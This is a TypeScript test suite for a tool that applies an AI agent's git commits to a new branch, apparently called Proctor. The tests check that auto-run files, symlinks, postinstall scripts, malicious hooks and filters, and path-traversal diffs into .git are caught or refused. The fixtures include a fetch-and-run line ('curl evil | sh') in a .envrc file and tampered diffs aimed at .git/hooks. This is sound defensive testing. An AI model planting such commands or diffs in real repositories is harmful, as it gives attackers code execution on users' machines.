import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Changes } from '../../../src/contracts/agent-step/changes.ts';
import { applyToBranch, type BranchApplication } from '../../../src/execute/worktree/apply-branch.ts';
import { temporaryFolder } from '../../support/support.ts';
import { given, git, put, repository } from './clone-world.ts';

const BY = { name: 'proctor-agent', email: 'agent@proctor.invalid', date: '1775211300 +0000' };

type Taken = Changes & { readonly out: string; readonly series: string };

/** What `proctor apply --branch` makes of a run. */
function asked(changes: Taken, more: Partial<BranchApplication> = {}): BranchApplication {
  const { series } = changes.commits;
  const diffs = series?.diff ? readFileSync(changes.series) : Buffer.alloc(0);
  let at = 0;
  return {
    branch: 'agent/work',
    base: changes.baseSha,
    commits: (series?.listed ?? []).map(({ author, committer, message, diffBytes }) => {
      at += diffBytes;
      return { author, committer, message, diff: diffs.subarray(at - diffBytes, at) };
    }),
    whole: { diff: readFileSync(changes.out), message: 'the rest\n', author: BY, committer: BY },
    isTrial: false,
    allowActive: [],
    whyNot: () => undefined,
    ...more,
  };
}

const answer = (folder: string, application: BranchApplication) =>
  applyToBranch(folder, application).then(
    ({ commits }) => commits,
    (error: Error) => error.message,
  );

function committed(tree: string, message: string): string {
  git(tree, 'add', '-A', '-f');
  git(tree, 'commit', '-q', '--allow-empty', '-m', message);
  return git(tree, 'rev-parse', 'HEAD');
}

describe('apply --branch', () => {
  test("makes the agent's commits again, identical to the byte, and adds uncommitted changes as one commit", async () => {
    const folder = repository();
    const { tree, took } = await given(folder);
    put(tree, { 'src/a.ts': 'one\nTWO\nthree\n', 'new\nline': 'odd\n', 'sp ace/"q"': 'x' });
    writeFileSync(Buffer.from(`${tree}/latin\xe9`, 'latin1'), Buffer.from([0xff, 0x0a]));
    committed(tree, 'Change a\n\n  A body.');
    rmSync(path.join(tree, 'src/b.bin'));
    put(tree, { 'run.sh': 'echo\n', big: Buffer.from([0, 1, 2, 3]) });
    chmodSync(path.join(tree, 'run.sh'), 0o755);
    committed(tree, 'Remove b');
    const last = committed(tree, 'Nothing at all');
    put(tree, { 'readme.md': 'uncommitted\n' });
    const changes = await took();
    put(folder, { 'src/a.ts': 'the user works here\n' });
    const [before, head] = [git(folder, 'status', '--porcelain'), git(folder, 'rev-parse', 'HEAD')];
    expect(await answer(folder, asked(changes, { isTrial: true }))).toBe(4);
    expect(git(folder, 'branch', '--list')).toBe('* main');
    expect(await answer(folder, asked(changes))).toBe(4);
    expect(git(folder, 'rev-parse', 'agent/work~1')).toBe(last);
    expect(git(folder, 'log', '-1', '--format=%s %an %ad', '--date=raw', 'agent/work')).toBe(
      'the rest proctor-agent 1775211300 +0000',
    );
    expect(git(folder, 'show', 'agent/work:readme.md')).toBe('uncommitted');
    expect(git(folder, 'fsck', '--strict')).toBe('');
    expect([git(folder, 'status', '--porcelain'), git(folder, 'rev-parse', 'HEAD')]).toEqual([before, head]);
    expect(git(folder, 'symbolic-ref', 'HEAD')).toBe('refs/heads/main');
  });

  test('applies the commits that the agent made on its own branch', async () => {
    const folder = repository();
    const { tree, took } = await given(folder);
    git(tree, 'checkout', '-q', '-b', 'feature');
    put(tree, { x: '1' });
    const tip = committed(tree, 'On a feature branch');
    expect(await answer(folder, asked(await took()))).toBe(1);
    expect(git(folder, 'rev-parse', 'agent/work')).toBe(tip);
  });

  test('leaves out merges and rewritten histories, and says why', async () => {
    const folder = repository();
    const merged = await given(folder);
    git(merged.tree, 'checkout', '-q', '-b', 'side');
    put(merged.tree, { x: '1' });
    committed(merged.tree, 'side');
    git(merged.tree, 'checkout', '-q', '-');
    put(merged.tree, { y: '1' });
    committed(merged.tree, 'main');
    git(merged.tree, 'merge', '-q', '--no-edit', 'side');
    const changes = await merged.took();
    expect(changes.commits.series).toEqual({ why: 'not_linear', diff: null, listed: [] });
    expect(await answer(folder, asked(changes))).toBe(1);
    expect(git(folder, 'ls-tree', '--name-only', 'agent/work')).toContain('x\ny');
    const orphan = await given(folder);
    git(orphan.tree, 'checkout', '-q', '--orphan', 'new');
    committed(orphan.tree, 'orphan');
    expect((await orphan.took()).commits.series).toMatchObject({ why: 'not_linear' });
  });

  test('leaves out commits that git cannot represent, such as ones without an author', async () => {
    const folder = repository();
    const { tree, took } = await given(folder);
    const raw = `tree ${git(tree, 'rev-parse', 'HEAD^{tree}')}\nparent ${git(tree, 'rev-parse', 'HEAD')}\nauthor x\ncommitter y\n\nm`;
    const sha = execFileSync('git', ['hash-object', '-t', 'commit', '-w', '--stdin', '--literally'], {
      cwd: tree,
      input: raw,
      encoding: 'utf8',
    }).trim();
    git(tree, 'update-ref', 'HEAD', sha);
    expect((await took()).commits.series).toMatchObject({ why: 'unreadable' });
  });

  test('reviews every commit, including files that a later commit removes', async () => {
    const folder = repository();
    const { tree, took } = await given(folder);
    put(tree, { '.envrc': 'curl evil | sh\n' });
    committed(tree, 'one');
    rmSync(path.join(tree, '.envrc'));
    put(tree, { x: '1' });
    committed(tree, 'two');
    const changes = await took();
    expect(changes.needsReview).toEqual([]);
    expect(await answer(folder, asked(changes))).toMatch(/^Files that run automatically need review.*\n {2}\.envrc: /);
    expect(git(folder, 'branch', '--list', 'agent/*')).toBe('');
    const whyNot = (at: string) => (at === '.envrc' ? 'which is in a forbidden path' : undefined);
    expect(await answer(folder, asked(changes, { allowActive: ['.envrc'], whyNot }))).toBe(
      'A commit of the agent changes .envrc, which is in a forbidden path.',
    );
    expect(await answer(folder, asked(changes, { allowActive: ['.envrc'] }))).toBe(2);
  });

  test.each<[string, (tree: string) => void, RegExp]>([
    ['a link that leaves the tree', tree => symlinkSync('/etc', path.join(tree, 'out')), /out: it is a symlink/],
    ['a link to an active file', tree => symlinkSync('x', path.join(tree, 'CLAUDE.md')), /CLAUDE\.md: /],
    [
      'an active part of package.json',
      tree => put(tree, { 'package.json': '{"scripts":{"postinstall":"x"}}' }),
      /package\.json: .*postinstall/,
    ],
    ["Proctor's own files", tree => put(tree, { '.Proctor/x': '' }), /\.Proctor\/x is not applied/],
  ])('refuses %s', async (_, act, words) => {
    const folder = repository();
    const { tree, took } = await given(folder);
    act(tree);
    committed(tree, 'one');
    expect(await answer(folder, asked(await took()))).toMatch(words);
    expect(git(folder, 'branch', '--list')).toBe('* main');
  });

  test('refuses branch names that git forbids or no command can use', async () => {
    const folder = repository();
    const { tree, took } = await given(folder);
    put(tree, { x: '1' });
    const changes = await took();
    for (const branch of [
      '-x',
      '..',
      'a..b',
      'a b',
      'x.lock',
      'HEAD',
      '@',
      '',
      'a\u0007',
      '@{-1}',
      '/a',
      'a/',
      '\ud800',
    ])
      expect(await answer(folder, asked(changes, { branch })), branch).toMatch(/is not a valid branch name/);
    expect(git(folder, 'branch', '--list')).toBe('* main');
  });

  test('refuses an existing branch, a name below one, and a repository without the base commit', async () => {
    const folder = repository();
    const { tree, took } = await given(folder);
    put(tree, { x: '1' });
    const changes = await took();
    expect(await answer(folder, asked(changes, { branch: 'main' }))).toMatch(/main already exists/);
    expect(await answer(folder, asked(changes, { branch: 'main/x' }))).toMatch(/another branch is in its way/);
    git(folder, 'symbolic-ref', 'HEAD', 'refs/heads/unborn');
    expect(await answer(folder, asked(changes, { branch: 'unborn' }))).toMatch(/unborn already exists/);
    const other = repository({ other: '' });
    expect(await answer(other, asked(changes))).toMatch(/does not contain the commit/);
    expect(await answer(temporaryFolder(), asked(changes))).toMatch(/not in a git work tree/);
  });

  test('runs no hook, filter or program that the user or the diff configures', async () => {
    const folder = repository();
    const { tree, took } = await given(folder);
    put(tree, { '.gitattributes': '* filter=evil diff=evil merge=evil\n', 'x.txt': 'x\n' });
    committed(tree, 'one');
    const changes = await took();
    const trap = path.join(temporaryFolder(), 'ran');
    const hooks = path.join(folder, '.git/hooks');
    mkdirSync(hooks, { recursive: true });
    for (const name of ['reference-transaction', 'post-checkout', 'post-commit', 'pre-auto-gc', 'post-index-change'])
      writeFileSync(path.join(hooks, name), `#!/bin/sh\ntouch ${trap}\n`, { mode: 0o755 });
    for (const key of [
      'filter.evil.clean',
      'filter.evil.smudge',
      'diff.evil.textconv',
      'core.fsmonitor',
      'core.editor',
      'gpg.program',
    ])
      git(folder, 'config', key, `touch ${trap}; cat`);
    git(folder, 'config', 'commit.gpgSign', 'true');
    expect(await answer(folder, asked(changes, { allowActive: ['.gitattributes'] }))).toBe(1);
    expect(() => readFileSync(trap)).toThrow('ENOENT');
  });

  test('refuses a tampered diff that writes outside the tree or into .git', async () => {
    const folder = repository();
    const { took } = await given(folder);
    const changes = await took();
    for (const at of ['../x', '.git/hooks/pre-commit', '.GIT/config', 'a/git~1/x']) {
      const diff = Buffer.from(
        `diff --git a/${at} b/${at}\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/${at}\n@@ -0,0 +1 @@\n+x\n`,
      );
      const commits = [{ diff, message: 'm', author: BY, committer: BY }];
      expect(await answer(folder, asked(changes, { commits })), at).toMatch(/do not apply|git's own files/);
    }
    expect(git(folder, 'branch', '--list')).toBe('* main');
  });
});
